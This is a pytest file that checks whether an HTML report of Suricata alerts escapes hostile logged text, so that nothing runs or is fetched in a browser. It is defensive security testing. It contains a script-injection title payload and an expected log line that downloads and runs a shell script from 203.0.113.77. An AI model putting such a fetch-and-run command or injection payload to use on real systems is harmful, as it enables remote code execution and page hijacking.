"""In a browser, a report of hostile events is text: nothing runs, nothing is fetched."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pytest
from browser import Visitor
from listener import listener
from report_pages import HOSTILE

from suricata_eve import report
from suricata_eve.printable import plain

SPECIAL = (
    *("quotes_commas_formula", "html_in_fields", "utf8_in_headers", "control_bytes"),
    *("non_utf8_url", "non_utf8_user_agent", "values_like_numbers", "sql_in_url"),
    *("very_long_url", "broken_http"),
)
CUT = 200  # characters of a long text that are shown before it is opened


def planted(frame: pd.DataFrame, truth: dict[str, Any]) -> list[str]:
    """Return the texts that the special flows of the sample sent, as they were logged."""
    ids = {flow.get("community_id") for key in SPECIAL for flow in truth["special"][key]}
    chosen = frame[frame["community_id"].isin(list(ids - {None}))]
    texts = [
        text
        for name in ("http.url", "http.http_user_agent", "http.http_refer", "http.hostname")
        for text in chosen[name].dropna().unique()
    ]
    assert len(texts) > 20
    return texts


def incident(texts: list[str]) -> pd.DataFrame:
    """Return alerts and requests that have these texts wherever a report shows text."""
    count = len(texts)
    column, nothing = pa.array(texts, pa.string()), pa.nulls(count, pa.string())
    both = {name: pa.concat_arrays([column, column]) for name in ("alert.category", "app_proto")}
    both |= dict.fromkeys(("host", "proto", "community_id"), both["app_proto"])
    data = {
        "event_type": pa.array(["alert"] * count + ["http"] * count),
        "timestamp": pa.array(range(2 * count), pa.timestamp("s", "UTC")),
        "flow_id": pa.array([*range(count), *range(count)], pa.int64()),
        "src_ip": pa.array(["192.0.2.1"] * 2 * count),
        "dest_ip": pa.concat_arrays([column, column]),
        "alert.signature": pa.concat_arrays([column, nothing]),
        "alert.action": pa.concat_arrays([column, nothing]),
        "http.url": pa.concat_arrays([nothing, column]),
        "http.hostname": pa.concat_arrays([nothing, column]),
        "http.http_user_agent": pa.concat_arrays([nothing, column]),
        **both,
    }
    frame = pd.DataFrame({k: pd.arrays.ArrowExtensionArray(v) for k, v in data.items()})
    types = pd.DataFrame({"event_type": texts}).assign(timestamp=frame["timestamp"].iloc[0])
    return pd.concat([frame, types], ignore_index=True)


@pytest.fixture
def hostile(sample7: pd.DataFrame, truth: dict[str, Any]) -> list[str]:
    """What the sample has, and what was thought of beside it."""
    return list(dict.fromkeys([*planted(sample7, truth), *HOSTILE]))


@pytest.mark.parametrize("with_policy", [True, False], ids=["policy", "no policy"])
def test_hostile_text_is_text(
    hostile: list[str], visit: Visitor, tmp_path: Path, *, with_policy: bool
) -> None:
    """Escaping alone holds, and the policy is a second wall."""
    title = "</title><script>document.title='alive'</script>\u202e"
    with listener() as (port, asked):
        texts = [text.replace("{port}", str(port)) for text in hostile]
        page, _ = report(incident(texts), tmp_path / "a.html", title=title)
        if not with_policy:
            data = page.read_text("ascii")
            bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", data)
            assert len(bare) < len(data)
            page.write_text(bare, encoding="ascii")
        seen = visit(page)

    assert seen.title == plain(title)
    assert seen.console == []
    assert seen.requests == []
    assert asked == []
    assert not re.search(r"<(script|img|iframe|link|object|embed|base|form|math)\b", seen.dom)
    assert not re.search(r"<[^>]*\s(on\w+|style|src|srcdoc|action)=", seen.dom)
    assert set(re.findall(r'<a\b[^>]*href="(.)', seen.dom)) == {"#"}
    lines = seen.text.splitlines()
    for text in texts:
        shown = plain(text)
        start = shown if len(shown) <= CUT else shown[:CUT]
        assert any(start in line for line in lines), start


def test_the_same_text_in_a_careless_page_comes_alive(hostile: list[str], visit: Visitor) -> None:
    """The test above can fail: what it looks for happens where text is not escaped."""
    with listener() as (port, asked):
        body = "\n".join(text.replace("{port}", str(port)) for text in hostile[-len(HOSTILE) :])
        seen = visit(f"<!doctype html><title>quiet</title><body>{body}")

    assert seen.title == "alive"
    assert asked
    assert re.search(r"<(script|img|iframe|link|object|embed|base|form|math)\b", seen.dom)
    assert plain(HOSTILE[0]) not in seen.text


def test_the_page_reads_well_without_anything_else(
    sample7: pd.DataFrame, visit: Visitor, tmp_path: Path
) -> None:
    """Its own style passes its own policy, and its own tables are there."""
    page, _ = report(sample7, tmp_path / "a.html", title="Log4Shell")
    seen = visit(page)

    assert seen.title == "Log4Shell"
    assert seen.console == []
    assert seen.requests == []
    assert "863 alerts of 55 signatures among 9,722 events" in seen.text
    assert "wget http://203.0.113.77/lh.sh;chmod +x lh.sh;./lh.sh" in seen.text
